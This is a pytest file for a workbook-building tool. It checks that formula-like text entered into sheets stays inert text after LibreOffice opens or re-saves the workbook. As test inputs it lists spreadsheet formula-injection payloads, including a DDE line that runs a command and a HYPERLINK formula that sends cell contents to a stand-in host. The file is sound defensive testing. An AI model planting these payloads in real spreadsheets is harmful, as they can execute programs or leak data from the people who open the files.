"""Texts that a spreadsheet might calculate stay texts on every way into a workbook, as LibreOffice opens it."""

from __future__ import annotations

import re
import sys
import zipfile
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pytest
from helpers.command import call

from ovop_xl.schemes import load
from ovop_xl.workbook.block import Cell, Page, Value
from ovop_xl.workbook.build import build_workbook
from ovop_xl.workbook.filebook import FileBook

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "{=1+1}",
    "'=1+1",
]
TEXTS = {
    "IKM": ("business", "owner", "product", "sentra", "scope", "nib", "note"),
    "Peserta": ("name", "business", "village", "note"),
    "Orang": ("name", "institution"),
    "Wilayah": ("village", "potential"),
    "Pelatihan": ("name", "place"),
    "Tahapan": ("note",),
    "Nilai": ("note",),
    "Fasilitasi": ("name", "result"),
}
"""Columns of the sample that take the texts, one after the other."""

LINK = re.compile(r'of:=HYPERLINK\("surat/([^"]+)";"\1"\)')
"""A row of Surat links to its document by a formula of ours, in which a name is text and nothing else."""

pytestmark = pytest.mark.spreadsheet
Convert = Callable[[Path, str], Path]


def formulas(ods: Path) -> list[str]:
    """Every formula of a workbook that LibreOffice has read."""
    with zipfile.ZipFile(ods) as package:
        return sorted(re.findall(r'table:formula="([^"]*)"', package.read("content.xml").decode()))


def sample(path: Path, *, hostile: bool) -> Path:
    sys.path.insert(0, str(ROOT / "workbooks"))
    from sample import sample_rows, sample_settings

    rows = sample_rows()
    settings: dict[str, Value] = dict(sample_settings())
    if hostile:
        for sheet, keys in TEXTS.items():
            for number, row in enumerate(rows[sheet]):
                row.update({key: PAYLOADS[(number + place) % len(PAYLOADS)] for place, key in enumerate(keys)})
        settings |= {"nama_kantor": "=1+1", "kota_surat": "@SUM(1,1)", "tembusan": "+1+1"}
    build_workbook(path, scheme=load("contoh-ovop-2013"), rows=rows, settings=settings)
    return path


def test_new_workbook_holds_no_formula_of_a_text(tmp_path: Path, soffice: Convert) -> None:
    clean = formulas(soffice(sample(tmp_path / "bersih.xlsx", hostile=False), "ods"))
    hostile = formulas(soffice(sample(tmp_path / "jahat.xlsx", hostile=True), "ods"))
    assert hostile == clean


def test_finished_workbook_holds_no_formula_of_a_text(tmp_path: Path, soffice: Convert) -> None:
    path = sample(tmp_path / "jahat.xlsx", hostile=True)
    clean = formulas(soffice(sample(tmp_path / "bersih.xlsx", hostile=False), "ods"))
    code, _ = call("run", path, "--no-pdf", "--month", "2017-05")
    written = formulas(soffice(path, "ods"))
    links = [one for one in written if LINK.fullmatch(unescape(one))]
    assert (code, len(links) > 0, [one for one in written if one not in links]) == (1, True, clean)


@pytest.mark.parametrize("route", ["write", "append", "patch"])
def test_text_comes_back_as_it_was_from_a_spreadsheet(tmp_path: Path, soffice: Convert, route: str) -> None:
    path = sample(tmp_path / "buku.xlsx", hostile=False)
    clean = formulas(soffice(path, "ods"))
    book = FileBook(path)
    cells = [[Cell(text)] for text in PAYLOADS]
    first = 1
    if route == "write":
        book.write(Page("Hasil", "Hasil", cells, (20,)))
    elif route == "append":
        book.write(Page("Hasil", "Hasil", [[Cell("judul")]], (20,)))
        book.append("Hasil", cells)
        first = 2
    else:
        book.write(Page("Hasil", "Hasil", [[Cell("judul")]], (20,)))
        book.patch("Hasil", {f"B{number}": text for number, text in enumerate(PAYLOADS, 1)})
    book.save()
    ods = soffice(path, "ods")
    found = [row[-1] for row in FileBook(ods).read("Hasil").rows[first - 1 :]]
    assert (formulas(ods), [str(one).strip() for one in found]) == (clean, [text.strip() for text in PAYLOADS])


def test_spreadsheet_that_saves_again_makes_no_formula_either(tmp_path: Path, soffice: Convert) -> None:
    path = sample(tmp_path / "jahat.xlsx", hostile=True)
    call("check", path)
    again = soffice(soffice(path, "ods"), "xlsx")
    with zipfile.ZipFile(again) as package:
        made = [
            re.findall(r"<f[ >][^<]*1\+1", package.read(name).decode())
            for name in package.namelist()
            if "sheet" in name
        ]
    assert [one for one in made if one] == []
